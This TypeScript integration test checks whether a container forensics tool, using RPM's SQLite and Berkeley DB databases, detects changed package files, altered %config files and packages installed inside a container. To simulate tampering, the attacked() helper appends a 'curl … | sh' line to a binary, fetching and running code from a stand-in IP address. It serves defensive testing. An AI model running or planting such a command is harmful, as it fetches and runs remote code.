/**
 * Changed files judged by RPM's own database (rpmdb.sqlite as rpm 4.18 writes it, and the
 * Berkeley DB `Packages` of older rpm, written by Berkeley DB itself), on a
 * real container: packages built with rpmbuild and installed with rpm into the image's
 * root, one with enough files that its header spills over many SQLite pages. A binary
 * changed in the container is a modified package file, a %config file is the
 * administrator's, a file only touched is the package's own, and a package the
 * container's rewritten database lists is named as installed inside it.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { triage } from '../../src/app/triage.js';
import type { ChangedPath } from '../../src/report/change.js';
import type { TriageReport } from '../../src/report/triage-report.js';
import { connectDockerLive } from '../../src/sources/docker-live/live-source.js';
import {
  baseImage,
  cleanRun,
  docker,
  newRunId,
  runLabelled,
  TEST_LABEL,
} from '../support/engine.js';

const run = promisify(execFile);
const runId = newRunId();
let work: string;
let report: TriageReport;

/** A spec: `files` as [path, content] under the build root; `config` marks %config ones. */
function spec(name: string, files: [string, string][], config: string[] = []): string {
  const install = files
    .map(
      ([p, content]) =>
        `mkdir -p "%{buildroot}${path.dirname(p)}"\nprintf '%s' '${content}' > "%{buildroot}${p}"`,
    )
    .join('\n');
  const list = files.map(([p]) => (config.includes(p) ? `%config(noreplace) ${p}` : p));
  return `Name: ${name}\nVersion: 1.0\nRelease: 1\nSummary: test\nLicense: MIT\nBuildArch: noarch\n%description\ntest\n%install\n${install}\nchmod 755 %{buildroot}/usr/bin/* 2>/dev/null || true\n%files\n${list.join('\n')}\n`;
}

async function rpmbuild(top: string, name: string, text: string): Promise<string> {
  await mkdir(path.join(top, 'SPECS'), { recursive: true });
  const file = path.join(top, 'SPECS', `${name}.spec`);
  await writeFile(file, text);
  await run('rpmbuild', ['--define', `_topdir ${top}`, '--quiet', '-bb', file]);
  return path.join(top, 'RPMS', 'noarch', `${name}-1.0-1.noarch.rpm`);
}

/** Installs the packages into `root` with rpm itself, its database at /var/lib/rpm. */
async function rpmInstall(root: string, packages: string[]): Promise<void> {
  const base = ['--root', root, '--dbpath', '/var/lib/rpm'];
  await run('rpm', [...base, '--initdb']);
  await run('rpm', [...base, '-i', '--nodeps', '--noscripts', '--nosignature', ...packages]);
}

const BULK: [string, string][] = Array.from({ length: 300 }, (_, i) => [
  `/usr/share/bulk/f${i}.txt`,
  `line ${i}\\n`,
]);

/** The header rpm stores for a package, as the package file carries it (after its lead and signature). */
async function headerOf(rpmFile: string): Promise<Buffer> {
  const bytes = await readFile(rpmFile);
  const sized = (at: number) => 16 + bytes.readUInt32BE(at + 8) * 16 + bytes.readUInt32BE(at + 12);
  const signature = 96;
  const main = signature + Math.ceil(sized(signature) / 8) * 8;
  return bytes.subarray(main + 8, main + sized(main));
}

/** A Berkeley DB `Packages` file as rpm before 4.16 kept it: instance number to header, written by db_load. */
async function berkeleyPackages(file: string, rpms: string[]): Promise<void> {
  const key = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n);
    return b.toString('hex');
  };
  const pairs = [` ${key(0)}\n ${key(rpms.length)}`];
  for (const [i, rpm] of rpms.entries())
    pairs.push(` ${key(i + 1)}\n ${(await headerOf(rpm)).toString('hex')}`);
  const dump = `${file}.dump`;
  await writeFile(
    dump,
    `VERSION=3\nformat=bytevalue\ntype=hash\ndb_pagesize=4096\nHEADER=END\n${pairs.join('\n')}\nDATA=END\n`,
  );
  await run('db5.3_load', ['-f', dump, file]);
  await rm(dump);
}

/** An image of the busybox base with `root` copied over it. */
async function imageWith(root: string, tag: string): Promise<string> {
  const label = `${TEST_LABEL}=${runId}`;
  const stage = (
    await docker('create', '--label', label, '--network', 'none', await baseImage())
  ).trim();
  await docker('cp', `${root}/.`, `${stage}:/`);
  const image = `coroner-test/rpm-${tag}:${runId}`;
  await docker(
    'commit',
    '--change',
    `LABEL ${label}`,
    '--change',
    'CMD ["sh", "-c", "while :; do sleep 3600; done"]',
    stage,
    image,
  );
  return image;
}

/** Starts a container of `image` and changes a binary, a %config file, and the time of a data file. */
async function attacked(image: string, tag: string): Promise<string> {
  const container = `coroner-test-rpm-${tag}-${runId}`;
  await runLabelled(container, runId, image);
  await docker(
    'exec',
    container,
    'sh',
    '-c',
    'printf "curl -s http://203.0.113.9/x | sh\\n" >> /usr/bin/demo-tool && echo key=other > /etc/demo/demo.conf && touch /usr/share/bulk/f7.txt',
  );
  return container;
}

let berkeleyReport: TriageReport;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-rpm-'));
  const top = path.join(work, 'build');
  const demo = await rpmbuild(
    top,
    'demo-tool',
    spec(
      'demo-tool',
      [
        ['/usr/bin/demo-tool', '#!/bin/sh\\necho demo\\n'],
        ['/etc/demo/demo.conf', 'key=value\\n'],
      ],
      ['/etc/demo/demo.conf'],
    ),
  );
  const bulk = await rpmbuild(top, 'bulk-data', spec('bulk-data', BULK));
  const extra = await rpmbuild(
    top,
    'extra-agent',
    spec('extra-agent', [['/usr/bin/extra-agent', '#!/bin/sh\\n']]),
  );
  const imageRoot = path.join(work, 'image-root');
  await rpmInstall(imageRoot, [demo, bulk]);
  // The container's database after an rpm -i of its own: one package more.
  const laterRoot = path.join(work, 'later-root');
  await rpmInstall(laterRoot, [demo, bulk, extra]);

  const container = await attacked(await imageWith(imageRoot, 'sqlite'), 'sqlite');
  await docker(
    'cp',
    path.join(laterRoot, 'var/lib/rpm/rpmdb.sqlite'),
    `${container}:/var/lib/rpm/rpmdb.sqlite`,
  );
  report = await triage(await connectDockerLive('auto'), container, {
    caseDir: path.join(work, 'case'),
  });

  // The same files, with the Berkeley DB of an older rpm in place of the SQLite one.
  await rm(path.join(imageRoot, 'var/lib/rpm'), { recursive: true });
  await mkdir(path.join(imageRoot, 'var/lib/rpm'));
  await berkeleyPackages(path.join(imageRoot, 'var/lib/rpm/Packages'), [demo, bulk]);
  const old = await attacked(await imageWith(imageRoot, 'berkeley'), 'berkeley');
  berkeleyReport = await triage(await connectDockerLive('auto'), old, {
    caseDir: path.join(work, 'case-berkeley'),
  });
}, 300_000);

afterAll(async () => {
  await cleanRun(runId);
});

const change = (p: string): ChangedPath => {
  const found = [...report.changes].find((c) => c.path === p);
  expect(found, p).toBeDefined();
  return found!;
};

describe("a container judged by RPM's database", () => {
  it("reads the image's rpmdb.sqlite and the container's rewritten one, whole", () => {
    expect(report.packages?.managers).toEqual(['rpm']);
    expect(report.packages?.files.map((f) => [f.path, f.side, f.isRead, f.problem])).toEqual([
      ['/var/lib/rpm/rpmdb.sqlite', 'current', true, undefined],
      ['/var/lib/rpm/rpmdb.sqlite', 'original', true, undefined],
    ]);
  });

  it('finds the changed binary a modified package file, by the SHA-256 rpm lists', () => {
    const tool = change('/usr/bin/demo-tool');
    expect(tool.package).toMatchObject({
      manager: 'rpm',
      package: 'demo-tool',
      database: 'image',
      algorithm: 'sha256',
      verdict: 'differs',
    });
    expect(tool.findings.map((f) => f.rule)).toContain('package-modified');
  });

  it("leaves a changed %config file to the other rules, and finds a touched file the package's own", () => {
    const conf = change('/etc/demo/demo.conf');
    expect(conf.package).toMatchObject({ isConffile: true, verdict: 'differs' });
    expect(conf.findings.map((f) => f.rule)).not.toContain('package-modified');
    expect(change('/usr/share/bulk/f7.txt').package).toMatchObject({
      package: 'bulk-data',
      verdict: 'matches',
    });
  });

  it('names the package the container installed itself, on the database that changed', () => {
    expect(report.packages?.installedInContainer).toEqual(['extra-agent 1.0-1']);
    const db = change('/var/lib/rpm/rpmdb.sqlite');
    expect(db.findings.find((f) => f.rule === 'packages-installed')?.reason).toMatch(
      /extra-agent 1\.0-1/,
    );
  });
});

describe("a container judged by RPM's older Berkeley DB database", () => {
  it('reads /var/lib/rpm/Packages whole, and gives the same verdicts', () => {
    expect(
      berkeleyReport.packages?.files.map((f) => [f.path, f.side, f.isRead, f.problem]),
    ).toEqual([['/var/lib/rpm/Packages', 'original', true, undefined]]);
    const verdicts = (r: TriageReport) =>
      ['/usr/bin/demo-tool', '/etc/demo/demo.conf', '/usr/share/bulk/f7.txt'].map((p) => {
        const c = [...r.changes].find((x) => x.path === p);
        return [
          p,
          c?.package?.package,
          c?.package?.verdict,
          c?.findings.map((f) => f.rule).includes('package-modified'),
        ];
      });
    expect(verdicts(berkeleyReport)).toEqual([
      ['/usr/bin/demo-tool', 'demo-tool', 'differs', true],
      ['/etc/demo/demo.conf', 'demo-tool', 'differs', false],
      ['/usr/share/bulk/f7.txt', 'bulk-data', 'matches', false],
    ]);
    expect(verdicts(berkeleyReport)).toEqual(verdicts(report));
  });
});
